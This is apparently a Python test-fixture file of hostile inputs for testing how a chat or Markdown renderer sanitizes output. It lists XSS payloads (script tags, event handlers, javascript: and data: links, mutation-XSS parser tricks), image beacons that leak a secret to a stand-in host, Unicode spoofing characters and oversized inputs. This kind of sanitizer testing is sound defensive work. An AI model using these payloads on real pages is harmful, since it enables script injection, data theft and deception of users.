"""What a model may be made to say: each text, and what must be readable of it.

Every script in here calls `pwned`, and every address leads to `evil`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import pairwise

# A text that is shown as it was written, or a text and what is shown of it. White space is ignored.
Group = dict[str, str | tuple[str, str]]

MEGABYTE = 1_000_000

SCRIPTS: Group = {
    "script": "<script>pwned()</script>",
    "script in capitals": "Hi <ScRiPt\t>pwned()</sCrIpT/x> there",
    "script within a script": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "script without an end": "<script>pwned()",
    "script without a bracket": "<script src=//evil.test/a.js",
    "script from elsewhere": "<script src='https://evil.test/a.js' async></script>",
    "module": "<script type=module>import 'https://evil.test/a.js'</script>",
    "style": "<style>@import url(//evil.test/a.css); body { display: none }</style>",
    "frame": "<iframe src='javascript:pwned()'></iframe>",
    "frame with a document": '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "object": "<object data='data:text/html,<script>pwned()</script>'></object>",
    "embed": "<embed src=//evil.test/a.swf type=image/svg+xml>",
    "form": "<form action=//evil.test><button formaction=javascript:pwned()>Go</button></form>",
    "base": "<base href=//evil.test/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.test/">',
    "linked files": "<link rel=stylesheet href=//evil.test/a.css><link rel=preload href=/evil.js>",
    "element of this page": '<mindwave-chat base="//evil.test/"></mindwave-chat>',
    "end of this element": "</div></template></mindwave-chat></body><script>pwned()</script>",
    "slot": '<slot name="evil"><template shadowrootmode=open><script>pwned()</script></template>',
}

HANDLERS: Group = {
    "picture": "<img src=evil onerror=pwned()>",
    "picture of lines": "<img\nsrc=evil\nonerror\n=\npwned()>",
    "picture with slashes": "<img/src=evil/onerror=pwned()//",
    "vector": "<svg/onload=pwned()><animate onbegin=pwned() attributeName=x></svg>",
    "vector with a link": "<svg><a xlink:href=javascript:pwned()><text y=9>x</text></a></svg>",
    "vector that fetches": "<svg><use href='//evil.test/a.svg#a'/><image href=/evil.png></svg>",
    "body": "<body onload=pwned() onpageshow=pwned()>",
    "focus": "<input autofocus onfocus=pwned()><div tabindex=1 onfocusin=pwned()>",
    "details": "<details open ontoggle=pwned()>x</details>",
    "media": "<video><source onerror=pwned() src=evil></video><audio src=evil onerror=pwned()>",
    "transition": '<p style="animation: x" onanimationstart=pwned()>x</p><marquee onstart=pwned()>',
    "attribute in an attribute": '<img alt="<img src=evil onerror=pwned()>" title=\'"\'>',
}

PARSERS: Group = {
    "noscript": '<noscript><p title="</noscript><img src=evil onerror=pwned()>"></noscript>',
    "mathematics": "<math><mtext><table><mglyph><style><!--</style><img src=evil onerror=pwned()>",
    "foreign style": "<svg></p><style><a id='</style><img src=evil onerror=pwned()>'></svg>",
    "title": "<title></title><img src=evil onerror=pwned()></title><textarea></textarea>",
    "template": "<template><img src=evil onerror=pwned()></template>",
    "comment": "<!-- --!><img src=evil onerror=pwned()> <!--> <script>pwned()</script> -->",
    "conditional comment": "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    "section": "<![CDATA[<script>pwned()</script>]]> ]]>",
    "instruction": "<?xml version='1.0'?><?php pwned() ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "entities": (
        "&lt;script&gt;pwned()&lt;/script&gt; &#60;img src=evil onerror&#61;pwned()&#x3e;",
        "<script>pwned()</script> <img src=evil onerror=pwned()>",
    ),
    "languages of templates": "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %>",
    "html in emphasis": ("**<b onclick=pwned()>x**</b>", "<b onclick=pwned()>x</b>"),
    "html in code": ("`<script>pwned()</script>`", "<script>pwned()</script>"),
}

LINKS: Group = {
    "script": "[x](javascript:pwned()) [x](JaVaScRiPt:pwned()) [x](<javascript:pwned()>)",
    "script with a host": "[x](javascript://evil.test/%0Apwned())",
    "script with controls": "[x](java\tscript:pwned()) [x](\x01javascript:y) [x](java\x0cscript:y)",
    "script with spaces": "[x](<java\u200bscript:pwned()>) [x](\xa0javascript:pwned())",
    "script in entities": (
        "[x](&#106;avascript:pwned()) [x](javascript&colon;pwned()) [x](java&Tab;script:pwned())",
        "[x](javascript:pwned()) [x](javascript:pwned()) [x](javascript:pwned())",
    ),
    "script by reference": "[x][a] and [a]\n\n[a]: javascript:pwned() 'title'",
    "script in angles": "<javascript:pwned()> <vbscript:pwned()> <data:text/html,evil>",
    "script as a picture": "![x](javascript:pwned()) ![x][a]\n\n[a]: javascript:pwned()",
    "script around a picture": (
        "[![x](https://evil.test/a.png)](javascript:pwned())",
        "[x](javascript:pwned())",
    ),
    "document": "[x](data:text/html,<script>pwned()</script>) [x](DATA:text/html;base64,PHNjcg==)",
    "other schemes": "[x](vbscript:pwned()) [x](blob:https://evil.test/a) [x](file:///etc/evil)",
    "no scheme": "[x](//evil.test/a) [x](\\evil.test) [x](/admin/evil/) [x](?evil) [x](#evil)",
    "more of an attribute": (
        '[x](https://evil.test/"onmouseover="pwned()) [x](https://evil.test/ "\'><img onerror=a>")',
        "x x",
    ),
    "mail with headers": ("[x](mailto:a@evil.test?bcc=b@evil.test&body=c%0d%0aTo:d)", "x"),
    "name before the host": "[x](https://bank.example@evil.test/) <https://bank.example:a@evil.test/>",
    "other alphabet": (
        "[x](https://b\u0430nk.example/evil) https://b\u0430nk.example/",
        "x https://b\u0430nk.example/",
    ),
    "very long": (f"[x](https://evil.test/{'a' * 3_000})", "x"),
    "host of the text is not that of the link": (
        "[https://bank.example](https://evil.test/)",
        "https://bank.example",
    ),
}

PICTURES: Group = {
    "pixel": ("![pixel](https://evil.test/pixel.gif?secret=42)", "pixel"),
    "pixel without a name": ("![](https://evil.test/p.gif)", "https://evil.test/p.gif"),
    "pixel by reference": ("![pixel][p]\n\n[p]: https://evil.test/p.gif", "pixel"),
    "pixel in a link": ("[![pixel](https://evil.test/p.gif)](https://evil.test/b)", "pixel"),
    "vector": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "attributes": '![x" onerror="pwned()](/evil.png "a\' onload=\'pwned()")',
}

MARKDOWN: Group = {
    "unclosed": "**bold *and `code [and](https://evil.te",
    "unclosed fence": ("```js\n<script>pwned()</script>", "js<script>pwned()</script>"),
    "fence with markup for a language": (
        '```"><img/src=evil/onerror=pwned()>\nx\n```',
        '"><img/src=evil/onerror=pwned()>x',
    ),
    "fence with a style for a language": (
        "```x;}*{display:none}/*\ny\n```",
        "x;}*{display:none}/*y",
    ),
    "prototype": (
        "```__proto__\nx\n```\n[constructor], [a][__proto__]\n\n[__proto__]: http://evil.test",
        "__proto__x [constructor], a",
    ),
    "growing backticks": "a".join("`" * length for length in range(1, 43)),
    "brackets": "[" * 10_000,
    "pictures that never begin": "![" * 3_000,
    "links in links": "[a](" * 2_000,
    "stars": "a" + "*" * 10_000,
    "open emphasis": "*a " * 3_000,
    "angles": "<" * 10_000,
    "ampersands": "&#" * 5_000,
    "quotes in quotes": ("> " * 3_000 + "deep", "> " * 2_940 + "deep"),
    "lists in lists": ("- " * 500 + "deep", "- " * 470 + "deep"),
    "indented lists": (
        "\n".join(" " * 2 * depth + f"- {depth}" for depth in range(100)),
        " ".join([*map(str, range(30)), *(f"- {depth}" for depth in range(30, 100))]),
    ),
    "row without a table": "|" * 5_000,
    "table within a list": ("- | a |\n  |---|\n  | <b onclick=pwned()> |", "a <b onclick=pwned()>"),
    "many definitions": (
        "".join(f"[{n}]: https://evil.test/{n}\n" for n in range(500)) + "\n[7]",
        "7",
    ),
}

CHARACTERS: Group = {
    "override": "user\u202egpj.exe and \u202dthe rest\u202c of it",
    "override in a link": (
        "[\u202emoc.knab//:sptth](https://evil.test/) after",
        "\u202emoc.knab//:sptth after",
    ),
    "open isolates": "\u2066\u2067\u2068" * 300 + "text",
    "without width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg",
    "joiner at the start": "\u2060\u2060- no list",
    "control characters": ("a\0b\x07c\x1b[31md\x7fe\x08", "a\ufffdb\x07c\x1b[31md\x7fe\x08"),
    "halves of a character": ("a\ud83d\ude00b\ud83d c\ude00", "a\U0001f600b\ufffd c\ufffd"),
    "not characters": "\ufffe\uffff\U0010ffff\ue000",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200,
    "marks": "Z" + "\u0351\u0327\u034a\u0321" * 500 + "!",
    "line ends": "a\r\nb\rc\u2028d\u2029e\x0bf\x0cg\x85h",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "evil") + "seen",
}

GROUPS: dict[str, Group] = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "parsers": PARSERS,
    "links": LINKS,
    "pictures": PICTURES,
    "Markdown": MARKDOWN,
    "characters": CHARACTERS,
}


def table(rows: int, columns: int) -> tuple[str, str]:
    """Return a table, and what its cells say."""
    cells = [[f"{row}.{column}" for column in range(columns)] for row in range(rows)]
    lines = ["| " + " | ".join(row) + " |" for row in cells]
    lines.insert(1, "|---" * columns + "|")
    return "\n".join(lines), " ".join(cell for row in cells for cell in row)


HUGE: Group = {
    "line without a space": "x" * MEGABYTE,
    "line of words": "word " * (MEGABYTE // 5),
    "line of markup": "<b onclick=pwned()>" * (MEGABYTE // 19),
    "picture in the text": f"![x](data:image/png;base64,{'A' * MEGABYTE})",
    "code": ("```\n" + "y" * MEGABYTE + "\n```", "y" * MEGABYTE),
    "long table": table(rows=1000, columns=20),
    "wide table": table(rows=50, columns=100),
    "table too wide to be one": table(rows=50, columns=500)[0],
}


def cases(group: Group) -> Iterator[tuple[str, str, str]]:
    """Yield the name of each text, the text, and what is shown of it."""
    for name, entry in group.items():
        text, shown = (entry, entry) if isinstance(entry, str) else entry
        yield name, text, shown


def pieces(text: str) -> list[str]:
    """Cut a text into three to seven pieces of uneven lengths."""
    count = 3 + len(text) % 5
    ends = [len(text) * number**2 // count**2 for number in range(count + 1)]
    cut = [text[start:end] for start, end in pairwise(ends)]
    return [piece for piece in cut if piece]
